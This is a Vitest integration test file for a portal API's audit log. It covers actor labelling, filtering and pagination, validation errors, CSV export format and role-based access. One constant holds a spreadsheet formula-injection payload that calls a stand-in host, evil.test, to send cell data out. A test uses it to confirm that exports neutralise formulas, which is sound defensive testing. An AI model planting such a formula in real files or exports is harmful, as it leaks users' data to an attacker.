import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_CSV_COLUMNS } from '../../src/audit/audit-csv.js';
import { orgPath } from '../roles/role-matrix-cells.js';
import {
  type PortalApiWorld,
  type TestOrganisation,
  usePortalApi,
} from '../support/portal-api-world.js';

const world: PortalApiWorld = usePortalApi('portal-api-audit');

/** An application name a spreadsheet would run as a formula if written as is. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.test/steal?d="&A1,"Open")';

let organisation: TestOrganisation;
let afterRename: string;

beforeAll(async () => {
  organisation = await world.organisation();
  const { Owner, Administrator } = organisation.members;
  await world.call(Owner, 'PATCH', orgPath(organisation.id, ''), { body: { name: 'Fleet Ltd' } });
  afterRename = new Date().toISOString();
  await new Promise((resolve) => setTimeout(resolve, 5));
  await world.call(Administrator, 'POST', orgPath(organisation.id, '/applications'), {
    body: { name: HOSTILE_NAME },
  });
  await world.call(Owner, 'POST', orgPath(organisation.id, '/applications'), {
    body: { name: 'Payroll cards' },
  });
});

/** Every event of a listing of the audit log, page after page of `limit`. */
async function listAll(query: string, limit: number) {
  const events = [];
  let cursor: string | undefined;
  do {
    const page = await world.call(
      organisation.members.Owner,
      'GET',
      orgPath(
        organisation.id,
        `/audit-events?limit=${limit}&${query}${cursor ? `&cursor=${cursor}` : ''}`,
      ),
    );
    expect(page.status).toBe(200);
    events.push(...page.body.items);
    cursor = page.body.nextCursor;
  } while (cursor);
  return events;
}

describe('the audit log a person reads', () => {
  it('names the actor and labels the object', async () => {
    const [latest] = await listAll('action=application.created', 1);

    expect(latest).toMatchObject({
      actor: {
        userId: organisation.members.Owner.userId,
        email: organisation.members.Owner.email,
        name: `Name of ${organisation.members.Owner.userId}`,
        role: 'Owner',
      },
      action: 'application.created',
      target: { type: 'application', label: 'Payroll cards' },
    });
  });

  it('filters by actor, action and time range on the server, page by page', async () => {
    const { Owner, Administrator } = organisation.members;

    const created = await listAll('action=application.created', 1);
    const byAdministrator = await listAll(
      `action=application.created&actorUserId=${Administrator.userId}`,
      1,
    );
    const sinceRename = await listAll(`from=${encodeURIComponent(afterRename)}`, 1);
    const untilRename = await listAll(`to=${encodeURIComponent(afterRename)}`, 2);

    expect(created.map((event) => event.target.label)).toEqual(['Payroll cards', HOSTILE_NAME]);
    expect(byAdministrator.map((event) => event.actor.userId)).toEqual([Administrator.userId]);
    expect(sinceRename.map((event) => event.action)).toEqual([
      'application.created',
      'application.created',
    ]);
    expect(untilRename[0]).toMatchObject({
      action: 'organisation.renamed',
      actor: { userId: Owner.userId },
      target: { label: 'Fleet Ltd' },
    });
    expect(untilRename.every((event) => event.at <= afterRename)).toBe(true);
  });

  it.each([
    ['an unknown action', 'action=application.exploded', 'query.action'],
    ['a malformed instant', 'from=yesterday', 'query.from'],
    ['a malformed actor', 'actorUserId=a%20b', 'query.actorUserId'],
  ])('refuses %s with a 400 problem naming the field', async (_, query, field) => {
    for (const operation of ['/audit-events', '/audit-events/export']) {
      const answer = await world.call(
        organisation.members.Owner,
        'GET',
        orgPath(organisation.id, `${operation}?${query}`),
      );

      expect(answer.status).toBe(400);
      expect(answer.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(answer.body.errors).toEqual([expect.objectContaining({ field })]);
    }
  });

  it('refuses a backwards time range with a 400 problem', async () => {
    const answer = await world.call(
      organisation.members.Owner,
      'GET',
      orgPath(
        organisation.id,
        '/audit-events/export?from=2026-12-02T00:00:00Z&to=2026-12-01T00:00:00Z',
      ),
    );

    expect(answer.status).toBe(400);
    expect(answer.body.code).toBe('invalid_period');
  });
});

describe('the audit log as CSV', () => {
  it('exports the filtered log as an RFC 4180 attachment', async () => {
    const answer = await world.call(
      organisation.members.Administrator,
      'GET',
      orgPath(organisation.id, '/audit-events/export?action=application.created'),
    );

    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe(
      `attachment; filename="audit-log-${organisation.id}.csv"`,
    );
    const [header, ...rows] = Papa.parse<string[]>(answer.body.trimEnd()).data;
    expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows.map((row) => row[5])).toEqual(['application.created', 'application.created']);
    expect(rows[0]?.[1]).toBe(organisation.members.Owner.email);
  });

  it('writes an application named as a formula as inert text', async () => {
    const answer = await world.call(
      organisation.members.Owner,
      'GET',
      orgPath(organisation.id, '/audit-events/export?action=application.created'),
    );

    const rows = Papa.parse<string[]>(answer.body.trimEnd()).data.slice(1);
    const hostile = rows.find((row) => row[8]?.includes('HYPERLINK'));
    expect(hostile?.[8]).toBe(`'${HOSTILE_NAME}`);
    // No cell of the file starts a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('who may read the audit log', () => {
  it.each(['Developer', 'Observer'] as const)(
    'refuses the %s the list and the CSV (403), as the role matrix says',
    async (role) => {
      for (const operation of ['/audit-events', '/audit-events/export']) {
        const answer = await world.call(
          organisation.members[role],
          'GET',
          orgPath(organisation.id, operation),
        );

        expect(answer.status).toBe(403);
        expect(answer.body.code).toBe('forbidden');
      }
    },
  );

  it("answers another organisation's Owner 404, as for an organisation that does not exist", async () => {
    const outsider = (await world.organisation()).members.Owner;

    for (const operation of ['/audit-events', '/audit-events/export']) {
      const answer = await world.call(outsider, 'GET', orgPath(organisation.id, operation));

      expect(answer.status).toBe(404);
      expect(answer.body.code).toBe('organisation_not_found');
      expect(JSON.stringify(answer.body)).not.toContain('Fleet Ltd');
    }
  });

  it('asks for a sign-in without a token (401)', async () => {
    const answer = await world.call(
      undefined,
      'GET',
      orgPath(organisation.id, '/audit-events/export'),
    );

    expect(answer.status).toBe(401);
  });

  it("refuses a cursor of another organisation's log", async () => {
    const other = await world.organisation();
    const page = await world.call(
      other.members.Owner,
      'GET',
      orgPath(other.id, '/audit-events?limit=1'),
    );

    const answer = await world.call(
      organisation.members.Owner,
      'GET',
      orgPath(organisation.id, `/audit-events?limit=1&cursor=${page.body.nextCursor}`),
    );

    expect(answer.status).toBe(400);
    expect(answer.body.code).toBe('invalid_cursor');
  });
});
